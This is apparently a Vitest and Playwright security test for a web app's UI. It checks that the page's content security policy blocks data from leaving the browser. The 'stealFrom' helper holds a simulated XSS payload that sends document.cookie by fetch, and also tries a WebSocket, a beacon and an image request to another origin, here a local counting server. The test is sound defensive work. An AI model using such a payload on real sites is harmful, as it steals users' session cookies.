import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHandlers } from '../../electron/handlers/index.js';
import { createServices } from '../../electron/services/index.js';
import { startWebServer, type WebServer } from '../../electron/web/server.js';
import { launchChromium } from './chromium.js';

/**
 * A script that runs in the web UI's page (an XSS, a hostile dependency) and tries to send
 * what it can read to another origin: the page's policy must stop every request before it
 * leaves the browser. The other origin is a real server that counts what reaches it.
 * It is text (the node-side tsconfig has no DOM types); it answers what it could reach, and
 * keeps the directives that stopped it in `window.violations` as the events come.
 */
const stealFrom = (target: string) => `(async () => {
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.effectiveDirective));
  const opens = (url) => new Promise((resolve) => {
    const ws = new WebSocket(url);
    ws.onopen = () => resolve(true);
    ws.onerror = () => resolve(false);
  });
  const own = await opens('ws://' + location.host + '/ws');
  const fetched = await fetch('http://${target}/fetch?c=' + document.cookie).then(() => true, () => false);
  const foreignSocket = await opens('ws://${target}/ws');
  navigator.sendBeacon('http://${target}/beacon', 'x');
  await new Promise((resolve) => {
    const image = new Image();
    image.onload = image.onerror = () => resolve();
    image.src = 'http://${target}/image';
  });
  return { own, fetched, foreignSocket };
})()`;

describe('web UI page under attack, in Chromium', () => {
  let browser: Browser;
  let server: WebServer;
  let elsewhere: Server;
  const reached: string[] = [];

  beforeAll(async () => {
    const rendererDir = mkdtempSync(join(tmpdir(), 'spanwise-web-attacks-'));
    writeFileSync(join(rendererDir, 'index.html'), '<!doctype html><title>Spanwise</title>');
    const services = createServices({ mode: 'web', dataDir: join(rendererDir, 'data') });
    server = await startWebServer({ handlers: createHandlers(services), events: services.events, rendererDir });
    elsewhere = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
    });
    elsewhere.on('upgrade', (request, socket) => {
      reached.push(`upgrade ${request.url ?? ''}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    elsewhere?.close();
  });

  it('drops the token from the address once traded for the cookie', async () => {
    const page = await browser.newPage();
    await page.goto(server.url);
    expect(page.url()).toBe(`http://127.0.0.1:${server.port}/`);
    expect(await page.evaluate('location.href + document.referrer')).not.toContain(server.token);
    await page.close();
  });

  it('lets the page reach its own WebSocket, and nothing of another origin: fetch, WebSocket, beacon or image', async () => {
    const page = await browser.newPage();
    await page.goto(server.url);
    const other = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    const outcome = await page.evaluate(stealFrom(other));
    expect(outcome).toEqual({ own: true, fetched: false, foreignSocket: false });
    await expect.poll(() => page.evaluate('[...new Set(window.violations)].sort()')).toEqual(['connect-src', 'img-src']);
    expect(reached).toEqual([]);
    await page.close();
  });
});
